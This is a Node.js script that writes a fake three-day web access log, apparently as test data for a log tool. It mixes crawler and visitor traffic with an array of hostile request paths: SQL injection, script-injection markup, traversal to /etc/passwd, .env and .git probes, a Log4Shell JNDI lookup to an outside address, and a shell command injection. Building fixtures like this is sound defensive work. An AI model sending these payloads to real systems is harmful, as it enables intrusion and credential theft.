// Prints the log of a site in the last three days that bots and attackers visit, among them some whose paths and names
// would be markup if they were shown as such, and people of whom some sign up for the newsletter. With the argument now, it prints a minute in which one network scans a site.
const agents = [
  "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
  "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)",
  "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; ChatGPT-User/1.0; +https://openai.com/bot",
  "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityBot/1.0; +https://perplexity.ai/perplexitybot)",
  "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
  "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
  "Mozilla/5.0 (compatible; <img src=x onerror=alert(1)>bot/1.0)",
];
const person = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0";
const pages = ["/", "/articles/privacy", "/articles/logs", "/robots.txt", "/<img src=x onerror=alert(2)>", "/'><script>alert(3)</script>", "/feed.xml", "/<b>tariffs</b>"];
const attacks = [
  "/item?id=1%27%20UNION%20SELECT%20password%20FROM%20users--%20", "/?q=%3Cscript%3Ealert(4)%3C/script%3E", "/../../../../etc/passwd", "/.env", "/.git/config",
  "/wp-login.php", "/?x=${jndi:ldap://203.0.113.9/a}", "/cgi-bin/test?c=;cat%20/etc/passwd", "/admin/", "/phpmyadmin/index.php",
];
const months = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];
const two = (n) => String(n).padStart(2, "0");

const lines = [];
const now = Date.now();
const line = (ago, address, request, status, size, agent, from = "-") => {
  const t = new Date(now - ago * 60_000);
  const when = `${two(t.getUTCDate())}/${months[t.getUTCMonth()]}/${t.getUTCFullYear()}:${two(t.getUTCHours())}:${two(t.getUTCMinutes())}:${two(t.getUTCSeconds())} +0000`;
  lines.push([t.getTime(), `${address} - - [${when}] "${request} HTTP/1.1" ${status} ${size} "${from}" "${agent}"`]);
};
const scan = process.argv[2] === "now";
for (let i = 0; scan && i < 60; i++) line(1 - i / 60, "8.8.8.8", `GET /backup-${i}/old`, 404, 300, person);
for (let i = 0; !scan && i < 600; i++) {
  const agent = agents[i % agents.length];
  const page = pages[(3 * i + 2 * Math.floor(i / 7)) % pages.length];
  line(10 + i * 7, `198.51.100.${1 + (i % 200)}`, `GET ${page}`, page.includes("alert") ? 404 : 200, 2000 + ((i * 997) % 30_000), agent);
}
for (let i = 0; !scan && i < 400; i++) line(10 + i * 10, `203.0.113.${1 + (i % 90)}`, `GET ${pages[i % 2]}`, 200, 9000, person);
for (let i = 0; !scan && i < 240; i++) {
  const post = i % 10 === 5;
  line(30 + Math.floor(i / 8) * 90, i % 3 ? "8.8.8.8" : "1.1.1.1", `${post ? "POST" : "GET"} ${attacks[i % attacks.length]}`, i % 40 === 7 ? 500 : 404, 300, person);
}
// On whole days before today, whatever the hour.
for (let i = 0; !scan && i < 30; i++) {
  const from = ["https://www.google.com/", "https://www.linkedin.com/", "https://www.google.com/"][i % 3];
  line(1500 + i * 40, `193.0.${i}.9`, "GET /articles/privacy", 200, 9000, person, from);
  if (i % 2 === 0) line(1499 + i * 40, `193.0.${i}.9`, "GET /newsletter/thanks", 200, 3000, person, "https://crawled.example/articles/privacy");
}
lines.sort((a, b) => a[0] - b[0]);
process.stdout.write(lines.map((l) => l[1] + "\n").join(""));
